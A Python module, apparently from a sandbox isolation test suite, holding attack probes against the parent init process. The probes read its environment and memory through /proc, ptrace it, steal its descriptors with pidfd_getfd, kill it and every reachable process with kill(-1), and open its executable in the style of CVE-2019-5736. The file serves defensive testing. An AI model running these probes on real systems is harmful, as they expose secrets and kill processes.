"""Attacks on the init above the program: its environment, files, memory, descriptors, executable, life.

The init is the parent; inside its own pid namespace that is process 1.
"""

import signal
import time


def init():
    return os.getppid()


@attack
def init_environment():
    with open(f"/proc/{init()}/environ", "rb") as file:
        file.read()


@attack
def init_root():
    os.listdir(f"/proc/{init()}/root/")


@attack
def init_descriptors():
    os.readlink(f"/proc/{init()}/fd/0")


@attack
def init_memory():
    with open(f"/proc/{init()}/maps", "rb") as file:
        if not file.read():
            raise Refused("nothing is shown")
    os.close(os.open(f"/proc/{init()}/mem", os.O_RDONLY))


@attack
def init_trace():
    call("ptrace", 0x4206, init(), 0, 0)


@attack
def init_stolen_descriptor():
    """Takes the control socket out of the init."""
    process = call("pidfd_open", init(), 0)
    for number in range(64):
        try:
            call("pidfd_getfd", process, number, 0)
            return
        except OSError as error:
            if error.errno != errno.EBADF:
                raise
    raise Absent("no descriptor")


@attack
def init_killed():
    parent = init()
    os.kill(parent, signal.SIGKILL)
    until = time.monotonic() + 1
    while time.monotonic() < until:
        if os.getppid() != parent:
            return
        time.sleep(0.01)
    raise Refused("it does not die")


@attack
def everything_killed():
    """Everything that may be killed, at once. On the host the program becomes a user of its own first, with
    a companion to be killed, so that nothing else is."""
    if os.getuid() == 0:
        os.setresuid(0x20000002, 0x20000002, 0x20000002)
        if os.fork() == 0:
            signal.pause()
    assert 0 not in os.getresuid()
    os.kill(-1, signal.SIGKILL)


@attack
def init_executable():
    """Through /proc/PID/exe to the host's binary, to write there what is run next (CVE-2019-5736)."""
    descriptor = os.open(f"/proc/{init()}/exe", os.O_RDONLY)
    if os.fstat(descriptor).st_nlink == 0:
        raise Refused("a sealed copy")
